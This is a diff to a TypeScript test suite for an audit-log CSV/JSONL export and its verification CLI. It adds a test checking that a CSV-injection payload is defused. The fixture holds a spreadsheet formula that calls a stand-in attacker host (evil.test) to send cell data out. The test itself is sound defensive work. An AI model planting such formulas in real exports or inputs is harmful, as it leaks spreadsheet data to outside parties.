@@ -35,9 +35,15 @@ function denied(n: number, extra: Partial<AuditEventInput<'tap_request.denied'>>
   };
 }
 
+/** A refusal whose target is a spreadsheet formula (what raw input once put there); the CSV must defuse it. */
+const FORMULA_TARGET = '=HYPERLINK("https://evil.test/?"&A1,"open")@x';
+function refusedForFormula(): AuditEventInput<'tap_request.refused'> {
+  return { type: 'tap_request.refused', actorId: ACTOR, targetId: FORMULA_TARGET, requestId: null, data: { stage: 'create', code: 'not-in-reporting-chain', policyVersion: 1 }, context: TEST_CONTEXT };
+}
+
 async function appendEvents(prisma: PrismaClient, count: number): Promise<void> {
   for (let n = 1; n <= count; n += 1) {
-    const event = n === 2 ? denied(n, { targetId: null, requestId: null }) : denied(n);
+    const event = n === 2 ? denied(n, { targetId: null, requestId: null }) : n === 4 ? refusedForFormula() : denied(n);
     await prisma.$transaction((tx) => appendAuditEvent(tx, event));
   }
 }
@@ -264,6 +270,32 @@ describe('audit:verify rejects every tampering', () => {
     expect(bad.stderr).toContain('first bad seq 3');
 
     expect(cli().status).toBe(2);
+  });
+
+  test('a formula in a refused request’s target is inert in the CSV, and npm run audit:verify still verifies the file and its manifest', async () => {
+    const { bytes, manifest } = await fixture('csv');
+    const { rows } = splitRows(bytes, 'csv');
+    // The cell begins with the defusing quote (then the formula, its `"` doubled by RFC 4180) …
+    const cell = `"'${FORMULA_TARGET.replaceAll('"', '""')}"`;
+    expect(rows[3]).toMatch(/^4,/);
+    expect(rows[3]).toContain(`,"tap_request.refused","${ACTOR}",${cell},,`);
+    // … and no cell of the file begins with a formula character.
+    expect(bytes.toString('utf8')).not.toMatch(/(?:^|,)"?[=+\-@\t\r]/m);
+    // JSON Lines carries the value as it is.
+    const jsonl = await fixture('jsonl');
+    expect(splitRows(jsonl.bytes, 'jsonl').rows[3]).toContain(`"targetId":${JSON.stringify(FORMULA_TARGET)}`);
+
+    const dir = mkdtempSync(path.join(os.tmpdir(), 'audit-verify-formula-'));
+    const [file, manifestFile, keyFile] = ['export.csv', 'manifest.json', 'key.pem'].map((name) => path.join(dir, name)) as [string, string, string];
+    writeFileSync(file, bytes);
+    writeFileSync(manifestFile, JSON.stringify(manifest));
+    writeFileSync(keyFile, testKey().publicKeyPem);
+    const cli = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/audit-verify.ts', file, manifestFile, '--key', keyFile, '--json'], { cwd: process.cwd(), encoding: 'utf8' });
+    expect(cli.status, cli.stderr).toBe(0);
+    expect(JSON.parse(cli.stdout)).toMatchObject({ ok: true, format: 'csv', count: manifest.count, manifestChecked: true, keySource: 'pinned', sha256: manifest.file.sha256 });
+    // The event's hash is over the value, not the defused text: the stored chain holds the formula.
+    const stored = await db.prisma.auditEvent.findUniqueOrThrow({ where: { seq: 4n } });
+    expect(stored.targetId).toBe(FORMULA_TARGET);
   });
 
   test('cleans up', async () => {
